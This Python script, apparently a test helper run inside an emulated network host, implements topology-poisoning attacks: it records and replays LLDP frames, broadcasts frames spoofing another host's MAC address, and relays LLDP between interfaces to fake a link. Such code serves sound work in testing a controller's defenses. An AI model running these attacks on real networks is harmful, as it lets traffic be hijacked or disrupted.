"""Attacks of a hostile host on discovery and host tracking. Runs inside a host.

        intruder.py record INTERFACE SECONDS            prints each LLDP frame that arrives as a line of hexadecimal
    digits
        intruder.py send INTERFACE FRAME [COUNT]        sends such a frame COUNT times, ten a second
        intruder.py claim INTERFACE MAC [COUNT]         broadcasts frames from the address of another host, likewise
        intruder.py relay INTERFACE OTHER SECONDS       passes LLDP frames on between two interfaces
"""

import select
import socket
import sys
import time

ETH_P_ALL = 0x0003
LLDP = bytes.fromhex("88cc")
PAUSE_S = 0.1


def record(raw, seconds):
    deadline = time.monotonic() + float(seconds)
    while (left := deadline - time.monotonic()) > 0:
        raw.settimeout(left)
        try:
            frame, address = raw.recvfrom(2048)
        except TimeoutError:
            return
        if frame[12:14] == LLDP and address[2] != socket.PACKET_OUTGOING:
            print(frame.hex(), flush=True)


def send(raw, frame, count):
    for _ in range(int(count)):
        raw.send(frame)
        time.sleep(PAUSE_S)


def relay(interfaces, seconds):
    """Passes on what comes in at one interface to the other, and the reverse."""
    sockets = [socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) for _ in interfaces]
    for raw, interface in zip(sockets, interfaces):
        raw.bind((interface, ETH_P_ALL))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for ready in select.select(sockets, [], [], PAUSE_S)[0]:
            frame, address = ready.recvfrom(2048)
            if frame[12:14] == LLDP and address[2] != socket.PACKET_OUTGOING:
                other, = [raw for raw in sockets if raw is not ready]
                other.send(frame)


def main():
    if sys.argv[1] == "relay":
        return relay(sys.argv[2:4], float(sys.argv[4]))
    what, interface, argument, *count = sys.argv[1:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL)) as raw:
        raw.bind((interface, ETH_P_ALL))
        if what == "record":
            record(raw, argument)
        elif what == "send":
            send(raw, bytes.fromhex(argument), *(count or [1]))
        elif what == "claim":
            mac = bytes.fromhex(argument.replace(":", ""))
            send(raw, (b"\xff" * 6 + mac + bytes.fromhex("0800")).ljust(60, b"\0"), *(count or [1]))
        else:
            raise SystemExit(__doc__)


if __name__ == "__main__":
    main()
